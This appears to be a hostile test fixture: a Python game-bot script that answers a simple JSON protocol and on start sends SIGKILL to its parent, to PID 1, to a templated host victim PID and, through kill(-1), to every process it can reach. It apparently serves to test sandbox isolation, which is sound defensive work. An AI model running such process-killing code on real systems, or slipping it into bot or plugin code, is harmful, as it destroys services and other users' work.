"""Kills its parent, PID 1, the process `__VICTIM_PID__` of the host and every process it can."""

import contextlib
import json
import os
import signal
import sys

VICTIM = int("__VICTIM_PID__")


def attack():
    done = {}
    for name, pid in (("parent", os.getppid()), ("init", 1), ("victim", VICTIM)):
        try:
            os.kill(pid, signal.SIGKILL)
            done[name] = "sent"
        except OSError as error:
            done[name] = type(error).__name__
    return done


for line in sys.stdin:
    message = json.loads(line)
    if message["type"] == "start":
        report = attack()
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)  # everything it may signal, itself spared
        print(json.dumps({"debug": json.dumps(report)}), flush=True)
    elif message["type"] == "turn":
        print('{"action": "draw"}', flush=True)
    elif message["type"] == "catch":
        print('{"action": "pass"}', flush=True)
    else:
        print("{}", flush=True)
